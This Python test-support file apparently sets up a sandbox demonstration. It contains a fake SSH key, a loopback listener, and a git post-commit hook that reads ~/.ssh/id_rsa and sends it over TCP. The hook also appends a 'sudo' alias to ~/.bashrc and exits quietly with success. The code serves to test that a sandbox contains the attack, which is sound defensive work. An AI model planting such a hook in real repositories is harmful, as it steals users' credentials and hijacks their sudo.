"""What the demo plays on: a home with a fake key, a repository whose hook steals it, a listener that waits."""

import os
import shlex
import socket
import subprocess
import threading
from pathlib import Path

from tests.support.instance import Instance
from tests.support.users import identity

KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\nthis is the demo's fake key\n-----END OPENSSH PRIVATE KEY-----\n"
BASHRC = "# the demo's ~/.bashrc\n"

# Each step goes on when the one before it fails, and the hook exits 0: git reports success either way.
HOOK = """#!/bin/sh
stolen=$(cat "$HOME/.ssh/id_rsa")
[ -n "$stolen" ] || stolen=$(while read -r line; do echo "$line"; done < "$HOME/.ssh/id_rsa")
python3 - "$stolen" <<'PYTHON'
import socket, sys
socket.create_connection(("127.0.0.1", {port}), timeout=5).sendall(sys.argv[1].encode() or b"nothing, but here I am")
PYTHON
echo 'alias sudo="sudo /tmp/.x"' >> "$HOME/.bashrc"
exit 0
"""


class Listener:
    """The thief's end: a TCP listener on loopback that keeps what it receives."""

    def __init__(self) -> None:
        self.received = b""
        self.connections = 0
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = int(self._socket.getsockname()[1])
        threading.Thread(target=self._listen, daemon=True).start()

    def close(self) -> None:
        self._socket.close()

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            self.connections += 1
            with connection:
                connection.settimeout(5)
                while part := connection.recv(4096):
                    self.received += part


class Scene:
    """Files of one user, set for the attack."""

    def __init__(self, instance: Instance, user: int) -> None:
        self.instance = instance
        self.user = user
        self.home = Path(instance.environment(user)["HOME"])
        self.repository = instance.work_of(user) / "project"
        self.listener = Listener()
        self._shell(
            "mkdir -p ~/.ssh && chmod 700 ~/.ssh && git config --global user.name Demo && "
            "git config --global user.email demo@example.invalid && git config --global init.defaultBranch main && "
            f"git init -q {shlex.quote(str(self.repository))}"
        )
        self._write(self.home / ".ssh/id_rsa", KEY, 0o600)
        self._write(self.home / ".bashrc", BASHRC, 0o644)
        self._write(self.repository / "notes.txt", "Meeting at ten.\n", 0o644)
        self._write(self.repository / ".git/hooks/post-commit", HOOK.format(port=self.listener.port), 0o755)

    def untouched(self) -> bool:
        """Whether the key and the shell profile are as they were."""
        return (self.home / ".ssh/id_rsa").read_text() == KEY and (self.home / ".bashrc").read_text() == BASHRC

    def hook_works_outside(self) -> bool:
        """The same hook without a sandbox steals everything: otherwise the demo would prove nothing."""
        before = self.listener.connections
        self._shell(f"cd {shlex.quote(str(self.repository))} && .git/hooks/post-commit")
        self.instance.wait_until(
            lambda: True if KEY.strip().encode() in self.listener.received else None, "the key to arrive outside"
        )
        stolen = self.listener.connections > before and not self.untouched()
        self.listener.received, self.listener.connections = b"", 0
        self._write(self.home / ".bashrc", BASHRC, 0o644)
        return stolen

    def _shell(self, script: str) -> None:
        subprocess.run(
            ["/bin/sh", "-c", script],
            env=self.instance.environment(self.user),
            cwd=self.instance.work_of(self.user),
            check=True,
            timeout=60,
            stdin=subprocess.DEVNULL,
            **identity(self.user),
        )

    def _write(self, path: Path, text: str, mode: int) -> None:
        path.write_text(text)
        os.chown(path, self.user, self.user)
        path.chmod(mode)
